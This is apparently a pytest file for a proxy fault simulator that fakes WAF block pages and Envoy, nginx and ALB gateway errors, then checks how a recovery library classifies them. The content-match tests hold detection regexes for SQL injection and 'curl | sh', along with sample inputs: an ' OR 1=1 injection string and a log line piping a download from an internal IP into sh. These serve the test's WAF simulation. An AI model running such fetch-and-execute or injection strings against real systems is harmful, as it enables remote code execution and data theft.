"""The faults of the gateway model's scenarios (issue 10): a WAF rule on content, an upstream error page."""

from __future__ import annotations

import json
import re

import httpx
import pytest

from ctxrecover.classify import FailureKind, classify
from ctxrecover.recovery import is_ambiguous
from simulator.proxy.fault_specs import ScenarioError, fault_spec, parse_fault_spec
from simulator.proxy.faults import ContentMatch, ResetAfter, UpstreamError
from simulator.proxy.journal import page_fingerprint
from simulator.proxy.middlebox import Middlebox
from simulator.proxy.pagebook import known_page
from simulator.proxy.pages import UPSTREAM_ERROR_PAGES, WAF_PAGES

KB = 1024
URL = "http://gateway.local/v1/messages"
ENVOY_BODY = "upstream connect error or disconnect/reset before headers. reset reason: connection termination"
SQL_RULE = r"union\s+select|'\s*or\s+1\s*=\s*1"
RCE_RULE = r"curl [^|]*\|\s*sh"


def upstream(request: httpx.Request) -> httpx.Response:
    return httpx.Response(200, json={"ok": True})


def post(box: Middlebox, body: object) -> httpx.Response:
    client = httpx.Client(transport=httpx.MockTransport(box))
    return client.post(URL, content=json.dumps(body).encode())


def chat(*texts: str) -> dict[str, object]:
    return {"messages": [{"role": "user", "content": text} for text in texts]}


# -- content-match -----------------------------------------------------------------------------------------


def test_a_content_rule_blocks_a_small_body_that_matches_and_lets_a_large_clean_one_through() -> None:
    box = Middlebox(upstream, [ContentMatch(pattern=SQL_RULE)])

    blocked = post(box, chat("rows:\nSELECT * FROM users WHERE name = '' OR 1=1 --"))
    passed = post(box, chat("x" * 600 * KB))

    assert blocked.status_code == 403 and "Mod_Security" in blocked.text
    assert blocked.headers["content-type"] == WAF_PAGES["modsecurity"].content_type
    assert passed.status_code == 200
    assert [(r.kind, r.status) for r in box.rejections] == [("content-match", 403)]
    assert box.rejections[0].request_bytes < KB  # refused for its content, far below any size limit


def test_the_rule_matches_case_insensitively_on_the_raw_json_body() -> None:
    box = Middlebox(upstream, [ContentMatch(pattern=RCE_RULE, page="cloudflare")])

    # the log line as a tool result quotes it; JSON escapes its quotes and newlines, not the pipe
    log = 'Mar 15 01:57:44 web1 CRON[2471]: (www-data) CMD (CURL -s "http://10.0.0.7/u.sh" | SH)\n'
    blocked = post(box, chat(log))
    passed = post(box, chat("curl -s http://10.0.0.7/u.sh > u.sh"))

    assert blocked.status_code == 403 and "cf-ray" in blocked.headers
    assert passed.status_code == 200


def test_a_content_rule_waits_for_the_body_over_loopback_and_keeps_its_gates() -> None:
    rule = ContentMatch(pattern=SQL_RULE, from_turn=2)
    box = Middlebox(upstream, [rule, ResetAfter(1 * KB)])

    assert box.decide_headers("POST", "/v1/messages", [("host", "gateway.local")], 10, turn=2) is None
    early = Middlebox(upstream, [rule])
    request = httpx.Request("POST", URL, content=b"' OR 1=1")
    assert early.decide(request, turn=1).__class__.__name__ == "Forward"
    assert early.decide(request, turn=2).__class__.__name__ == "Respond"


def test_the_compact_spec_round_trips_and_bad_rules_are_refused() -> None:
    fault = parse_fault_spec(r"content-match:union\s+select:akamai:from_turn=3")
    assert fault == ContentMatch(pattern=r"union\s+select", page="akamai", from_turn=3)
    assert parse_fault_spec(fault_spec(fault)) == fault
    with_equals = parse_fault_spec("content-match:pattern=or 1=1")  # a '=' goes as key=value
    assert with_equals == ContentMatch(pattern="or 1=1")
    assert parse_fault_spec(fault_spec(with_equals)) == with_equals
    with pytest.raises(ScenarioError, match=re.escape("is not a regular expression")):
        parse_fault_spec("content-match:(unclosed")
    with pytest.raises(ScenarioError, match="page must be one of"):
        parse_fault_spec("content-match:select:iis")


def test_a_content_block_is_classified_as_a_waf_rejection() -> None:
    box = Middlebox(upstream, [ContentMatch(pattern=SQL_RULE)])
    answer = post(box, chat("UNION SELECT password FROM users"))

    failure = classify(status=answer.status_code, body=answer.text, headers=dict(answer.headers))
    assert failure.kind is FailureKind.WAF_REJECTION


# -- upstream-error ----------------------------------------------------------------------------------------


def test_envoy_masks_an_upstream_413_as_its_real_503_above_a_size() -> None:
    box = Middlebox(upstream, [UpstreamError(page="envoy", min_bytes=128 * KB)])

    small = post(box, chat("x" * 100 * KB))
    large = post(box, chat("x" * 130 * KB))

    assert small.status_code == 200
    assert (large.status_code, large.text) == (503, ENVOY_BODY)
    assert large.headers["server"] == "envoy" and large.headers["content-type"] == "text/plain"
    assert large.headers["content-length"] == "95"  # Envoy's local reply, byte for byte


@pytest.mark.parametrize(
    ("page", "status", "title"),
    [
        ("nginx", 502, "502 Bad Gateway"),
        ("aws-alb", 502, "502 Bad Gateway"),
    ],
)
def test_nginx_and_alb_answer_their_502_page(page: str, status: int, title: str) -> None:
    answer = post(Middlebox(upstream, [UpstreamError(page=page)]), chat("hi"))
    assert answer.status_code == status and f"<title>{title}</title>" in answer.text
    assert answer.headers["server"] == dict(UPSTREAM_ERROR_PAGES[page].headers)["server"]


def test_a_gateway_error_page_is_transient_for_classify_and_ambiguous_for_the_gateway_model() -> None:
    # What makes it hard: nothing in a 503 says "too large". Only its correlation with size does.
    answer = post(Middlebox(upstream, [UpstreamError(page="envoy")]), chat("hi"))

    failure = classify(status=answer.status_code, body=answer.text, headers=dict(answer.headers))
    assert failure.kind is FailureKind.TRANSIENT_NETWORK
    assert is_ambiguous(failure, answer.text)


def test_the_upstream_error_pages_are_known_to_infer() -> None:
    for name, page in UPSTREAM_ERROR_PAGES.items():
        answer = post(Middlebox(upstream, [UpstreamError(page=name)]), chat("hi"))
        fingerprint = page_fingerprint(answer.content, host="gateway.local", path="/v1/messages")
        known = known_page(page.status, fingerprint)
        assert known is not None and (known.kind, known.name) == ("upstream-error", name)
